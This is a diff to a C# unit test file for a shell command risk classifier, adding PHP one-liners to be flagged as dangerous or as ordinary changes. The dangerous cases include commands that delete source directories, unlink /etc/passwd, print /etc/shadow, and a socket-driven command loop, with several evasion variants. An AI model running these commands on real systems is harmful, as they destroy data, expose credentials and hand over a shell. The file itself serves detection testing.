@@ -29,6 +29,13 @@ public sealed class PhpCodeTests
     [InlineData("php -r '$s=fsockopen(\"h\",1); while(!feof($s)){ fwrite($s, shell_exec(fgets($s))); }'")]
     [InlineData("echo '<?php system(\"rm -rf src\");' | php")]
     [InlineData("php <<< '<?php unlink(\"/etc/passwd\");'")]
+    [InlineData("php -r '@system(\"rm -rf src\");'")]
+    [InlineData("php -r 'echo shell_exec(\"cat /etc/shadow\");'")]
+    [InlineData("php -r '$d = \"src\"; exec(\"rm -rf {$d}\");'")]
+    [InlineData("php -r '\\system(\"rm -rf src\");'")]
+    [InlineData("php -r 'array_map(\"exec\", [\"rm -rf src\"]);'")]
+    [InlineData("php -r 'foreach ([\"rm -rf src\"] as $c) system($c);'")]
+    [InlineData("php -r '(function($c){ system($c); })(\"rm -rf src\");'")]
     public void Code_that_destroys_steals_or_hides_is_dangerous(string command) =>
         ShellClassifier.Classify(command).Risk.ShouldBe(ShellRisk.Dangerous, ShellClassifier.Classify(command).ToString());
 
@@ -48,6 +55,12 @@ public sealed class PhpCodeTests
     [InlineData("php -r \"unlink('composer-setup.php');\"")]
     [InlineData("php -d memory_limit=-1 vendor/bin/phpunit")]
     [InlineData("php -r 'system(\"composer install\");'")]
+    [InlineData("php -r 'for ($i = 0; $i < 3; $i++) echo $i;'")]
+    [InlineData("php -r 'echo exec(\"git rev-parse HEAD\");'")]
+    [InlineData("php -r '$x = simplexml_load_file(\"a.xml\"); echo $x->name;'")]
+    [InlineData("php -r 'require \"vendor/autoload.php\"; echo App\\Kernel::VERSION;'")]
+    [InlineData("php -r 'echo getenv(\"HOME\");'")]
+    [InlineData("php -r 'file_put_contents(\"a.txt\", \"x\", FILE_APPEND);'")]
     public void Ordinary_code_is_a_change(string command) =>
         ShellClassifier.Classify(command).Risk.ShouldBe(ShellRisk.Mutating, ShellClassifier.Classify(command).ToString());
 
